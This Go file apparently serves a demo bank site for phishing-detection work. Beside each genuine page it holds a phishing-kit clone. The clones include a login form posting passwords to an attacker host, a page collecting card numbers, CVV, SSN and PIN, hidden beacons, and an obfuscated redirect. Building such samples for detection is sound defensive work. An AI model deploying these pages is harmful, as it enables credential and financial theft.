package demoserver

// Page is one path of the lure site. Kit is the phishing-kit clone served in
// place of Genuine once the page is swapped; pages without a kit never change.
type Page struct {
	Path        string
	Description string
	Genuine     string
	Kit         string

	// Headers are sent with the genuine page only. Kits rarely bother.
	Headers map[string]string
}

// Pages returns every page of the lure site.
func Pages() []Page {
	return []Page{
		homePage(),
		loginPage(),
		verifyPage(),
		invoicePage(),
	}
}

func homePage() Page {
	return Page{
		Path:        "/",
		Description: "Bank landing page, never swapped",
		Genuine: `<!DOCTYPE html>
<html>
<head>
    <title>Northwind Bank</title>
    <link rel="icon" href="/static/favicon.ico">
</head>
<body>
    <h1>Northwind Bank</h1>
    <nav>
        <a href="/">Home</a> |
        <a href="/login">Sign in</a> |
        <a href="/verify">Security centre</a> |
        <a href="/invoice">Statements</a>
    </nav>
    <p>Personal and business banking since 1921.</p>
</body>
</html>`,
	}
}

func loginPage() Page {
	return Page{
		Path:        "/login",
		Description: "Sign-in form; the kit harvests credentials",
		Genuine: `<!DOCTYPE html>
<html>
<head>
    <title>Sign in - Northwind Bank</title>
    <link rel="icon" href="/static/favicon.ico">
</head>
<body>
    <h1>Sign in</h1>
    <form action="/session" method="POST">
        <label>Customer number <input type="text" name="customer"></label>
        <label>Passcode <input type="password" name="passcode"></label>
        <button type="submit">Sign in</button>
    </form>
</body>
</html>`,
		Headers: map[string]string{
			"Content-Security-Policy": "default-src 'self'",
		},
		Kit: `<!DOCTYPE html>
<html>
<head>
    <title>Sign in - Northwind Bank</title>
    <link rel="icon" href="https://cdn.northwind-assets.example/favicon.ico">
    <script src="https://cdn.kitpanel.example/jquery.min.js"></script>
    <script src="https://cdn.kitpanel.example/antibot.js"></script>
    <script src="https://stats.kitpanel.example/track.js"></script>
    <script>eval(atob("ZG9jdW1lbnQudGl0bGU9J1NpZ24gaW4n")); var _0x4a1f = unescape("%66%6f%72%6d");</script>
</head>
<body>
    <h1>Your account has been suspended</h1>
    <p>Unusual activity was detected. Verify your account and confirm your password immediately
       or access will be restricted. Update your security details to unlock your account.</p>
    <form action="https://collect.northwind-secure.tk/gate.php" method="POST">
        <input type="hidden" name="victim" value="1">
        <input type="hidden" name="kit" value="nw-2">
        <label>Email or username <input type="email" name="username"></label>
        <label>Password <input type="password" name="password"></label>
        <button type="submit">Login</button>
    </form>
    <div style="display:none"><iframe src="https://collect.northwind-secure.tk/beacon"></iframe></div>
</body>
</html>`,
	}
}

func verifyPage() Page {
	return Page{
		Path:        "/verify",
		Description: "Security advice; the kit harvests card and identity data",
		Genuine: `<!DOCTYPE html>
<html>
<head><title>Security centre - Northwind Bank</title></head>
<body>
    <h1>Security centre</h1>
    <p>We will never ask for your passcode by email or text message.</p>
    <a href="/">Back to home</a>
</body>
</html>`,
		Kit: `<!DOCTYPE html>
<html>
<head><title>Security centre - Northwind Bank</title></head>
<body>
    <h1>Confirm your identity</h1>
    <p>To verify your account please confirm your credit card number, social security number
       and billing details. Failure to update within 24 hours will lock your account.</p>
    <form action="http://185.23.10.7/cards.php" method="POST">
        <input type="text" name="card" placeholder="Card number">
        <input type="text" name="cvv" placeholder="CVV">
        <input type="text" name="ssn" placeholder="Social security number">
        <input type="password" name="pin" placeholder="PIN">
        <input type="hidden" name="step" value="2">
        <button type="submit">Verify</button>
    </form>
</body>
</html>`,
	}
}

func invoicePage() Page {
	return Page{
		Path:        "/invoice",
		Description: "Statement download; the kit is a lure with an obfuscated redirect",
		Genuine: `<!DOCTYPE html>
<html>
<head><title>Statements - Northwind Bank</title></head>
<body>
    <h1>Statements</h1>
    <p>Sign in to download your monthly statements.</p>
    <a href="/login">Sign in</a>
</body>
</html>`,
		Kit: `<!DOCTYPE html>
<html>
<head>
    <title>Invoice ready</title>
    <script>var u = String.fromCharCode(104,116,116,112); document.write(unescape("%3Cmeta%20http-equiv%3D%22refresh%22%3E")); window.location = atob("aHR0cDovL2V4YW1wbGUudGsvZw==");</script>
</head>
<body>
    <h1>Your invoice is ready</h1>
    <p>Your payment failed. Sign in to confirm your billing account before it is suspended.</p>
    <div style="display: none">tracking</div>
    <div style="display:none">tracking</div>
</body>
</html>`,
	}
}
